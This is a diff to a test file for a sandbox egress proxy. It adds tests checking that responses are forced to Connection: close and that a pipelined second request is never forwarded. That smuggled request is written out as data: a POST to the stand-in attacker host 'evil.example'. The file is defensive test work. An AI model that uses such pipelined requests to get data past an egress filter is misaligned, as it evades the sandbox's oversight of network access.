@@ -10,7 +10,7 @@ import net from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { type EgressDecision, type EgressProxyOptions, specialAddress, startEgressProxy } from '../../src/sandbox/egress';
+import { closingResponseHead, type EgressDecision, type EgressProxyOptions, specialAddress, startEgressProxy } from '../../src/sandbox/egress';
 import { until } from '../helpers/process';
 
 // ---------------------------------------------------------------------------
@@ -316,6 +316,52 @@ describe('allowed destinations', () => {
     const r = await exchange(socketPath, `POST http://127.0.0.1:${origin.port}?q HTTP/1.0\r\nContent-Length: 5\r\n\r\nabcde`);
     expect(r.status).toBe(200);
     expect(origin.requests).toEqual([{ head: `POST /?q HTTP/1.0\r\nHost: 127.0.0.1:${origin.port}\r\nContent-Length: 5\r\nConnection: close`, body: 'abcde' }]);
+  });
+
+  it('one request per connection: a keep-alive answer is passed back as Connection: close, and a pipelined second request never leaves', async () => {
+    // An origin that answers keep-alive although asked to close (as node:http does when
+    // a handler sets the header), after an interim 100 Continue, then closes.
+    let received = '';
+    let sent = '';
+    const answer = 'HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: keep-alive\r\nKeep-Alive: timeout=5\r\nContent-Length: 2\r\n\r\nok';
+    const lying = net.createServer((sock) => {
+      sock.on('error', () => undefined);
+      sock.setEncoding('latin1');
+      sock.on('data', (d: string) => {
+        received += d;
+        if (!received.includes('\r\n\r\nabcde') || sent) return;
+        sent = answer;
+        sock.write(answer);
+        // Whatever else arrives in the meantime is recorded, then the origin closes.
+        setTimeout(() => sock.end(), 100);
+      });
+    });
+    await new Promise<void>((r) => lying.listen(0, '127.0.0.1', r));
+    const port = (lying.address() as net.AddressInfo).port;
+    try {
+      const { decisions, socketPath } = await start({ allow: [`web.test:${port}`], privateDestinations: [`127.0.0.1:${port}`] });
+      const first = `POST http://web.test:${port}/one HTTP/1.1\r\nHost: web.test\r\nContent-Length: 5\r\nConnection: keep-alive\r\n\r\nabcde`;
+      const second = `POST http://evil.example/two HTTP/1.1\r\nContent-Length: 3\r\n\r\nxyz`;
+      const r = await exchange(socketPath, first + second);
+      const forwardedHead = `POST /one HTTP/1.1\r\nHost: web.test:${port}\r\nContent-Length: 5\r\nConnection: close\r\n\r\n`;
+      expect(received).toBe(`${forwardedHead}abcde`);
+      expect(r.raw).toBe('HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok');
+      await until('the decision', async () => decisions.length === 1);
+      // The counts are what the origin received and sent.
+      expect(decisions[0]).toMatchObject({ decision: 'allowed', host: 'web.test', bytesUp: Buffer.byteLength(received), bytesDown: Buffer.byteLength(answer) });
+    } finally {
+      await closeServer(lying);
+    }
+  });
+
+  it('closingResponseHead keeps a head that already closes and marks any other as closing', () => {
+    const closing = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close';
+    expect(closingResponseHead(closing)).toBe(closing);
+    expect(closingResponseHead('HTTP/1.1 204 No Content\r\nX-A: 1')).toBe('HTTP/1.1 204 No Content\r\nX-A: 1\r\nConnection: close');
+    expect(closingResponseHead('HTTP/1.0 200 OK\r\nconnection : Keep-Alive\r\nkeep-alive: max=5\r\nProxy-Connection: keep-alive\r\nX-B: 2')).toBe(
+      'HTTP/1.0 200 OK\r\nX-B: 2\r\nConnection: close',
+    );
+    expect(closingResponseHead('HTTP/1.1 200 OK\r\nConnection: close\r\nKeep-Alive: timeout=5')).toBe('HTTP/1.1 200 OK\r\nConnection: close');
   });
 
   it('resolves each name once, on the host, and connects to the address it checked', async () => {
